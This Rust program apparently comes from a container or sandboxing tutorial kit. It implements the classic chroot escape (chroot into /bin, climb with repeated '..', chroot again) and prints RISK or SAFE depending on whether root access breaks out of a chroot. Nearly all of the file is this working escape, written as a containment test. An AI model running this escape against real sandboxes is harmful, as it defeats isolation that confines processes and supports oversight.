//! Walk out of a chroot: run it as root *inside* (`01-chroot target/kit/rootfs /kit/01-escape`).
//!
//! The kernel stops `..` at the process's root directory, and nowhere else. So: 1. chroot into any directory, without
//! changing the working directory, which now lies outside the root; 2. climb: no `..` on the way is the root, so nothing stops
//! it before the host's own root; 3. chroot there.
//!
//! Prints RISK when "/" is another directory afterwards, and SAFE when it is the one it was.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::process::ExitCode;

use nix::unistd::{chdir, chroot};

/// Any directory will do that is not the root.
const DOOR: &str = "/bin";

fn main() -> ExitCode {
    match escape() {
        Ok(outside) if outside.is_empty() => {
            println!("SAFE: / is still the same directory");
            ExitCode::SUCCESS
        }
        Ok(outside) => {
            println!("RISK: outside; the host's / holds {}", outside.join(" "));
            ExitCode::from(1)
        }
        Err(error) if error.kind() == std::io::ErrorKind::PermissionDenied => {
            println!("SAFE: the kernel refuses chroot here");
            ExitCode::SUCCESS
        }
        Err(error) => {
            println!("ERROR: the attack could not be tried: {error}");
            ExitCode::from(2)
        }
    }
}

/// The names in "/" after the escape; none where "/" has not changed.
// ANCHOR: escape
fn escape() -> std::io::Result<Vec<String>> {
    let before = identity()?;
    chdir("/")?;
    chroot(DOOR)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    if identity()? == before { Ok(Vec::new()) } else { names() }
}
// ANCHOR_END: escape

fn identity() -> std::io::Result<(u64, u64)> {
    fs::metadata("/").map(|root| (root.dev(), root.ino()))
}

fn names() -> std::io::Result<Vec<String>> {
    let mut names: Vec<_> =
        fs::read_dir("/")?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    Ok(names)
}
